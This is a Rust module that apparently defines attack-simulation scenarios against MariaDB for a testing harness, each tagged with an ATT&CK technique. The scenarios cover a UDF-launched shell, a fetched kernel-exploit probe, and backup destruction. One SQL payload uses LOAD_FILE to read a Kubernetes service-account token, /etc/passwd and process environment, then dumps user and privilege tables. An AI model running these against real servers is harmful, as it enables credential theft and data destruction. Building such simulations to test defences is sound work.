//! Attacks on MariaDB.
//!
//! In: a target that is one. Out: scenarios. Never: another server's.

use super::moves::{DESTROY, FETCH, LOOK_AROUND, dropped};
use crate::attacks::{Ready, Scenario, target::TOKEN_TEXT};

const FUNCTION: &str = "function library written by SELECT … INTO DUMPFILE";

const SQL: &str = "SQL with the application's password";

/// Its scenarios.
pub(super) const ALL: &[Scenario] = &[
    Scenario {
        name: "function-shell",
        server: "mariadb",
        technique: "T1059.004",
        entry: FUNCTION,
        what: "a function of the attacker's in the server starts a shell that looks around",
        services: &[],
        act: |t| t.run(LOOK_AROUND),
        proof: "uid=100(mysql)",
    },
    Scenario {
        name: "kernel-exploit",
        server: "mariadb",
        technique: "T1068",
        entry: FUNCTION,
        what: "fetches a program with the calls that kernel exploits begin with: unshare, bpf, userfaultfd, ptrace, io_uring, …",
        services: &[(FETCH, Ready::Program("sprinkle"))],
        act: |t| t.run(dropped!("")),
        proof: "userfaultfd:",
    },
    Scenario {
        name: "files-by-sql",
        server: "mariadb",
        technique: "T1005",
        entry: SQL,
        what: "the server itself reads the token with LOAD_FILE and writes the users' table to a file; no process starts",
        services: &[],
        act: |t| {
            let file = "/var/run/secrets/kubernetes.io/serviceaccount/token";
            t.sql(&format!(
                "SELECT LOAD_FILE('{file}'); SELECT LOAD_FILE('/etc/passwd'); SELECT LOAD_FILE('/proc/self/environ');
                 SELECT * FROM shop.users INTO OUTFILE '/tmp/users-{}'; SELECT * FROM mysql.global_priv",
                t.server.pid()
            ))
        },
        proof: TOKEN_TEXT,
    },
    Scenario {
        name: "data-destruction",
        server: "mariadb",
        technique: "T1485",
        entry: FUNCTION,
        what: "writes over the backups and removes them",
        services: &[],
        act: |t| {
            t.plant_backups()?;
            t.run(DESTROY)
        },
        proof: "destroyed 20",
    },
];
